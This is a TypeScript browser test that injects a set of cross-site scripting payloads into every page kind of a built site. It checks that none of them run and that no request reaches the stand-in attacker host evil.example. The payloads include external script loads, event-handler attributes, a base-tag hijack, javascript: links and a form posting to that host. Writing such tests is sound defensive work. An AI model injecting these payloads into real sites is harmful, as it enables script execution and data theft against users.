import { describe, expect, it } from 'vitest';
import { setUpBrowser } from '../browser/browser.ts';
import { PAGE_KINDS } from '../built-site.ts';

const bench = setUpBrowser();
const EVIL = 'https://evil.example';

/** What an attacker would write into a page, had the escaping failed. */
const INJECTED = `
<script>window.ran = 'inline'</script>
<script src="${EVIL}/script.js"></script>
<script type="module">import '${EVIL}/module.js'</script>
<img src="/no-such-picture" onerror="window.ran = 'handler'">
<svg onload="window.ran = 'svg'"></svg>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<object data="${EVIL}/object.html"></object>
<base href="${EVIL}/">
<link rel="stylesheet" href="${EVIL}/style.css">
<img src="${EVIL}/picture.png">
<video src="${EVIL}/film.mp4" preload="auto"></video>
<a id="evil-link" href="javascript:window.ran='link'">link</a>
<form id="evil-form" action="${EVIL}/form"><button>send</button></form>`;

describe('script that has got into a page all the same', () => {
  it('does not run and reaches no other server, on any kind of page', async () => {
    const context = await bench.newContext();
    const reached: string[] = [];
    await context.route(`${EVIL}/**`, async (route) => {
      reached.push(route.request().url());
      await route.abort();
    });
    // By the policy in the page alone: a host that sends no headers is enough.
    await context.route(
      (url) => url.origin === new URL(bench.url).origin && /\/$|\.html$/.test(url.pathname),
      async (route) => {
        const body = (await (await route.fetch()).text()).replace('</body>', `${INJECTED}</body>`);
        await route.fulfill({ body, contentType: 'text/html; charset=utf-8' });
      },
    );
    const page = await context.newPage();
    const results: Record<string, unknown> = {};
    for (const [kind, path] of Object.entries(PAGE_KINDS)) {
      await page.goto(new URL(path, bench.url).href, { waitUntil: 'load' });
      const found = await page.evaluate(async (evil) => {
        const injected = document.querySelector('#evil-form');
        document.querySelector<HTMLElement>('#evil-link')?.click();
        document.querySelector<HTMLElement>('#evil-form button')?.click();
        const made = document.createElement('script');
        made.textContent = "window.ran = 'made'";
        document.body.append(made);
        const fetched = await fetch(`${evil}/data.json`).then(
          () => true,
          () => false,
        );
        await new Promise((resolve) => setTimeout(resolve, 50));
        const { ran } = window as { ran?: string };
        return { isThere: injected !== null, ran, fetched, base: new URL(document.baseURI).origin };
      }, EVIL);
      results[kind] = found;
    }
    const harmless = {
      isThere: true,
      ran: undefined,
      fetched: false,
      base: new URL(bench.url).origin,
    };
    expect(results).toEqual(Object.fromEntries(Object.keys(PAGE_KINDS).map((kind) => [kind, harmless])));
    expect(reached).toEqual([]);
    await context.close();
  });
});
